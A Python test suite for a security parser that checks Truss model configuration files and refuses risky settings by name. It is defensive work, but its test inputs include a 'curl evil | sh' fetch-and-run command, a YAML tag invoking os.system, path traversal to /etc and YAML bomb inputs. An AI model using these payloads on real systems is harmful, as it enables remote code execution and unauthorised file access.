"""Truss: what is taken of a `config.yaml`, and what is refused by name."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from security.errors import ModelFolderRejected
from security.stewards.truss import parse_truss_config

PLAIN = b"""
model_name: Tiny Chat
description: a small model
python_version: py311
requirements: []
system_packages: []
secrets: {}
environment_variables: {}
resources:
  accelerator: H100
  use_gpu: true
model_metadata:
  tags: [openai-compatible]
"""


def test_plain_truss_is_understood() -> None:
    """As `truss init` writes it: empty keys ask for nothing."""
    package = parse_truss_config(PLAIN)
    assert (package.model_name, package.data_dir, package.accelerator) == ("Tiny Chat", "data", "H100")


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("build_commands: [curl evil | sh]", "build_commands: it would run or install"),
        ("external_data: [{url: http://x, local_data_path: y}]", "external_data: it would download"),
        ("model_cache: [{repo_id: a/b}]", "model_cache: it would download"),
        ("weights: [{source: 'hf://a/b'}]", "weights: it would download"),
        ("requirements: [torch]", "requirements: it would run or install"),
        ("base_image: {image: x}", "base_image: it would run or install"),
        ("remote_ssh: {enabled: true}", "remote_ssh: it would open the running model to people"),
        ("live_reload: true", "live_reload: it would open"),
        ("docker_server: {start_command: x}", "docker_server: it would run another server"),
        ("secrets: {hf_access_token: null}", "secrets: it would hand secrets"),
        ("external_package_dirs: [../x]", "external_package_dirs: it would run code"),
        ("novelty: 1", "novelty: not known here"),
        ("model_metadata: {build_commands: [x]}", r"model_metadata\.build_commands"),
        ("data_dir: ../../etc", "data_dir"),
        ("data_dir: /etc", "data_dir"),
    ],
)
def test_what_asks_for_more_than_to_be_computed_is_refused_by_name(line: str, words: str) -> None:
    """Egress, build commands, remote shells, code, secrets, other servers, and what nobody here knows."""
    with pytest.raises(ModelFolderRejected, match=words):
        parse_truss_config(f"model_name: x\n{line}\n".encode())


def test_every_problem_is_named() -> None:
    """One line each."""
    with pytest.raises(ModelFolderRejected) as refused:
        parse_truss_config(b"build_commands: [a]\nrequirements: [b]\n")
    assert len(str(refused.value).splitlines()) == 2


@pytest.mark.parametrize(
    "data",
    [
        b"a: &a [1]\nmodel_name: *a",
        b"model_name: a\nmodel_name: b",
        b"!!python/object/apply:os.system [id]",
        b"[" * 100,
        b"{" * 17 + b"a: 1" + b"}" * 17,
        b"- a",
        b"1: 2",
        b"\xff\xfe",
        b"x" * (1 << 19),
    ],
    ids=["alias", "key twice", "object", "unclosed", "deep", "list", "number as key", "not UTF-8", "too long"],
)
def test_only_plain_yaml_is_taken(data: bytes) -> None:
    """No aliases, no objects, no key twice, no bombs."""
    with pytest.raises(ModelFolderRejected):
        parse_truss_config(data)


@given(st.binary(max_size=100))
def test_nothing_but_the_family_escapes(data: bytes) -> None:
    """Whatever the bytes."""
    try:
        parse_truss_config(data)
    except ModelFolderRejected:
        pass
